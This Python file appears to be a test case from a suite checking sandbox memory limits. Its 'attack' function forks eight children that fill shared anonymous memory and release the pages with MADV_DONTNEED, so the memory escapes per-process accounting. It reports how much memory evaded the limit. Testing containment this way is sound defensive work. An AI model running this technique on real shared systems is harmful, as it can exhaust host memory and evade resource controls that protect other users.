"""Takes shared memory and lets go of its pages, which stay: no process is seen to have them.

Who adds up what processes hold, does not find it; the pages last as long as the mapping.
"""

import mmap
import os
import time

EXPECT = {"out_of_memory", "stopped"}
BARE = {"escaped", "out_of_memory", "stopped"}  # a control group counts it, where there is one

PIECE = 1 << 24


def take(length):
    """Fill shared memory of ``length`` bytes and let go of each piece; return the mapping."""
    block = mmap.mmap(-1, length, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for start in range(0, length, PIECE):
        part = min(PIECE, length - start)
        block[start : start + part] = b"x" * part
        block.madvise(mmap.MADV_DONTNEED, start, part)
    return block


def attack(target):
    share = target.memory // 3
    reader, writer = os.pipe()
    children = []
    for _ in range(8):
        children.append(os.fork())
        if children[-1] == 0:
            os.close(reader)
            try:
                block = take(share)
                os.write(writer, b".")
                os.close(writer)
                time.sleep(5)
            finally:
                os._exit(block[0])
    os.close(writer)
    while os.read(reader, 1):
        pass  # each says when it has all, or is killed for it
    time.sleep(0.5)
    living = [pid for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0)]
    return len(living) >= 6 and f"{len(living) * share >> 20} MiB"
